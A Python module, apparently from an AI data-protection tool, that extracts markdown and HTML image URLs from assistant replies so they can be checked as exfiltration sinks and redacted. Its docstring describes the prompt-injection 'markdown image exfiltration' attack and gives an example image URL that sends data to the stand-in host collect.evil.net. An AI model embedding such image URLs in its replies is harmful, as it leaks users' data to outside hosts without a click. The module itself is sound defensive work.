"""Images in an assistant's reply: URLs the chat fetches by itself when it renders it.

A chat UI that renders markdown or HTML loads every image of a reply at once — no click
needed — so an image URL is a request to its host carrying whatever its path and query
hold: the "markdown image exfiltration" of the Bing Chat, ChatGPT and Slack AI reports
(``![status](https://collect.evil.net/p?d=483920)``). The `TaintTracker` treats each
image of an assistant's text as a sink call to its URL (`REPLY_IMAGE`), judged like any
tool call (`recipients`, `matching`).

What counts as an image here:

- a markdown inline image, ``![alt](url)``, ``![alt](url "title")``, ``![alt](<url>)``;
- a reference-style image, ``![alt][ref]``, ``![ref][]`` or ``![ref]``, whose ``[ref]:
  url`` definition is in the same message;
- an HTML ``<img>`` tag's ``src`` and each URL of its ``srcset``.

Only absolute ``http(s)`` URLs (and scheme-relative ``//host/…``) are read: a relative
one goes to the page's own origin. A plain link, ``[text](url)``, is *not* a sink: it
needs the user's click, and what a click sends is the user's doing. Images inside code
blocks are read too (a renderer shows those as text; a secret in one is still worth a
look).

The reply is attacker-influenced text, so the work is bounded: at most `MAX_IMAGES`
images per message, and every pattern has bounded, possessive repetitions over
character classes that stop at the next bracket, so no input makes them backtrack (a
reply of 10,000 unclosed ``![`` is read in one pass).
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from urllib.parse import unquote, urlsplit

MAX_IMAGES = 32
"""Images read per message; the rest of a longer reply's images are not checked: the
audit reports them (`images_past`), the guard takes them out unread."""

REPLY_IMAGE = "reply:image"
"""The sink "tool" of an image in an assistant's reply, as findings and guard decisions
name it (no real tool name holds a colon)."""

CHANNEL = "an image in the assistant's reply, fetched by the chat when it renders the reply"
"""How findings describe the `REPLY_IMAGE` channel."""

# a destination: <anything but brackets and newlines>, or no spaces, parentheses balanced
# one level deep ("Foo_(bar)"); then an optional title; each repetition possessive
_DESTINATION = (
    r"(?:<(?P<urla>[^<>\n]{1,4096}+)>"
    r"|(?P<url>(?:[^\s()<>]|\([^\s()<>]{0,256}+\)){1,4096}+))"
)
_TITLE = r"""(?:\s{1,64}+(?:"[^"]{0,1000}+"|'[^']{0,1000}+'|\([^()]{0,1000}+\)))?"""
_IMAGE = re.compile(
    r"!\[(?P<alt>[^\[\]]{0,1000}+)\]"
    r"(?:\(\s{0,64}+" + _DESTINATION + _TITLE + r"\s{0,64}+\)"
    r"|\[(?P<ref>[^\[\]]{0,1000}+)\])?"
)
_DEFINITION = re.compile(
    r"^[ ]{0,3}+\[(?P<label>[^\[\]\n]{1,1000}+)\]:[ \t]{0,64}+\n?[ \t]{0,64}+"
    r"(?:<(?P<defa>[^<>\n]{1,4096}+)>|(?P<def>[^\s<>]{1,4096}+))",
    re.MULTILINE,
)
_IMG_TAG = re.compile(r"<img\b(?P<attrs>[^<>]{0,4096}+)>", re.IGNORECASE)
_ATTRIBUTE = re.compile(
    r"""(?<![\w-])(?P<name>src|srcset)\s{0,64}+=\s{0,64}+"""
    r"""(?:"(?P<dq>[^"]{0,4096}+)"|'(?P<sq>[^']{0,4096}+)'|(?P<bare>[^\s"'=<>`]{1,4096}+))""",
    re.IGNORECASE,
)
_IMG_START = re.compile(r"<img", re.IGNORECASE)
_FETCHED = re.compile(r"(?:https?:)?//[^/\s]", re.IGNORECASE)


@dataclass(frozen=True)
class RenderedImage:
    """One image of a reply: its URL, which form wrote it, and where (to redact it)."""

    url: str
    form: str
    """``markdown image``, ``reference image``, ``html img src``, ``html img srcset``."""
    start: int
    end: int


def _fetched(url: str) -> str | None:
    """``url`` as the chat would fetch it, or None for one it would not (relative,
    ``data:``, another scheme); a scheme-relative URL gets ``https:``."""
    url = url.strip()
    if not _FETCHED.match(url):
        return None
    return "https:" + url if url.startswith("//") else url


def _label(text: str) -> str:
    """A reference label as markdown matches it: case-folded, spaces collapsed."""
    return " ".join(text.split()).casefold()


def may_hold_images(text: str) -> bool:
    """Whether ``text`` has the start of a markdown image or an ``<img`` tag (cheap)."""
    return "![" in text or ("<" in text and _IMG_START.search(text) is not None)


def images_in(
    text: str, limit: int | None = MAX_IMAGES, *, each: bool = False
) -> list[RenderedImage]:
    """The images a renderer would fetch for ``text``, in order, each URL once, at most
    ``limit`` (module docstring); ``each``: every image, a URL as often as it is
    written, with no limit — what a guard takes out of a reply (a refused URL written
    twice is fetched twice; an image past the ones read was never checked)."""
    if not may_hold_images(text):
        return []
    found: list[RenderedImage] = []
    seen: set[str] = set()
    if each:
        limit = None

    def add(raw: str, form: str, start: int, end: int) -> bool:
        url = _fetched(html.unescape(raw) if form.startswith("html") else raw)
        if url is not None and (each or url not in seen):
            seen.add(url)
            found.append(RenderedImage(url, form, start, end))
        return limit is not None and len(found) >= limit

    if "![" in text:
        definitions: dict[str, str] | None = None
        for match in _IMAGE.finditer(text):
            url = match.group("url") or match.group("urla")
            if url is not None:
                if add(url, "markdown image", match.start(), match.end()):
                    return found
                continue
            if definitions is None:  # read only when a reference image needs them
                definitions = {}
                for d in _DEFINITION.finditer(text):
                    definitions.setdefault(
                        _label(d.group("label")), d.group("def") or d.group("defa")
                    )
            label = _label(match.group("ref") or match.group("alt") or "")
            if label in definitions and add(
                definitions[label], "reference image", match.start(), match.end()
            ):
                return found
    if _IMG_START.search(text):
        for tag in _IMG_TAG.finditer(text):
            for attr in _ATTRIBUTE.finditer(tag.group("attrs")):
                value = attr.group("dq") or attr.group("sq") or attr.group("bare") or ""
                name = attr.group("name").lower()
                urls = [value] if name == "src" else [u.rstrip(",") for u in value.split()]
                for url in urls:
                    if add(url, f"html img {name}", tag.start(), tag.end()):
                        return found
    return found


def images_past(text: str, read: list[RenderedImage]) -> int:
    """How many image URLs of ``text`` are past ``read`` (`images_in`'s, which stops at
    `MAX_IMAGES`): never checked."""
    if len(read) < MAX_IMAGES:
        return 0
    return len({image.url for image in images_in(text, each=True)} - {i.url for i in read})


def sent_part(url: str) -> dict[str, str]:
    """What an image URL sends beyond naming its picture: its query and fragment, decoded
    (where `invented` looks for a record; an image's path names the picture, and a
    recalled picture's path holds ids that look like records)."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return {"url": url}
    return {"query": unquote(parts.query), "fragment": unquote(parts.fragment)}


def redact(text: str, images: list[RenderedImage]) -> str:
    """``text`` with each of ``images`` replaced by a note that it was removed."""
    out, at = [], 0
    for image in sorted(images, key=lambda i: i.start):
        if image.start < at:
            continue  # a second URL of one tag (srcset): the tag is gone already
        out += [text[at : image.start], "[image removed by the data-protection policy]"]
        at = image.end
    return "".join(out) + text[at:]
